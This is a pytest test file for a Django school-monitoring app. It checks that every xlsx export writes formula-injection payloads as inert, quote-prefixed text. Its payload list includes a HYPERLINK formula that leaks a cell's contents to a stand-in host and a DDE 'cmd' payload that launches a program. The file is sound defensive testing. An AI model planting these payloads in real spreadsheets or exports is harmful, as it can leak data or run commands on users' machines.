"""Text that a spreadsheet would run — a school name, a measure, a session topic, a teacher, a practice, an event or a
comment starting with `=`, `+`, `-` or `@` — comes out of every xlsx export as inert text, never as a formula."""

import io

import openpyxl
import pytest
from django.urls import reverse

from monitoring.models import IndicatorValue
from partnerships.models import Agreement, MethodicalEvent, Practice, SupportSession, Teacher
from programs.models import Programme, RoadmapMeasure
from schools.demo import SCHOOL_TEAM_SCHOOL
from schools.models import IdentificationRun, School
from schools.school_year import current_school_year

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(full_demo):
    """Names and texts of the demo replaced with formula payloads, in every app the exports read."""
    school = School.objects.get(short_name=SCHOOL_TEAM_SCHOOL)
    School.objects.filter(pk=school.pk).update(short_name=PAYLOADS[0], name=PAYLOADS[1])
    RoadmapMeasure.objects.filter(programme__school=school).update(name=PAYLOADS[2], executors=PAYLOADS[3])
    SupportSession.objects.filter(agreement__supported_school=school).update(topic=PAYLOADS[0], outcome=PAYLOADS[3])
    Agreement.objects.filter(supported_school=school).update(subject=PAYLOADS[1])
    Teacher.objects.filter(school=school).update(full_name=PAYLOADS[2])
    Practice.objects.update(title=PAYLOADS[3])
    MethodicalEvent.objects.update(title=PAYLOADS[0], organiser=PAYLOADS[1])
    IndicatorValue.objects.filter(school=school).update(comment=PAYLOADS[2])
    return full_demo, school


def export_urls(school) -> list[str]:
    programme = Programme.objects.filter(school=school).first()
    run = IdentificationRun.objects.order_by("pk").first()
    names = [
        "schools:list_export",
        "monitoring:indicator_list_export",
        "monitoring:queue_export",
        "monitoring:self_assessment_export",
        "partnerships:agreements_export",
        "partnerships:sessions_export",
        "partnerships:summary_export",
        "partnerships:teachers_export",
        "partnerships:plans_export",
        "partnerships:tutors_export",
        "partnerships:coverage_export",
        "partnerships:practices_export",
        "partnerships:events_export",
    ]
    year = current_school_year()
    return [reverse(name) for name in names] + [
        reverse("programs:export", args=[programme.pk]),
        reverse("schools:run_export", args=[run.pk]),
        reverse("monitoring:values_import_template") + f"?year={year - 1}&stage=final",
    ]


def formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                runs = isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix
                if cell.data_type == "f" or runs:
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def test_every_export_writes_formula_payloads_as_text(client, poisoned):
    users, school = poisoned
    client.force_login(users["department"])
    checked = 0
    for url in export_urls(school):
        response = client.get(url)
        assert response.status_code == 200, url
        content = response.content
        assert content[:2] == b"PK", url
        assert formula_cells(content) == [], url
        checked += 1
    assert checked == 16
    # The payloads are there, inert and as typed: the registry export holds the school's name, quote-prefixed text.
    registry = openpyxl.load_workbook(io.BytesIO(client.get(reverse("schools:list_export")).content))
    cells = {cell.value: cell for row in registry.active.iter_rows() for cell in row}
    assert cells[PAYLOADS[0]].data_type == "s" and cells[PAYLOADS[0]].quotePrefix
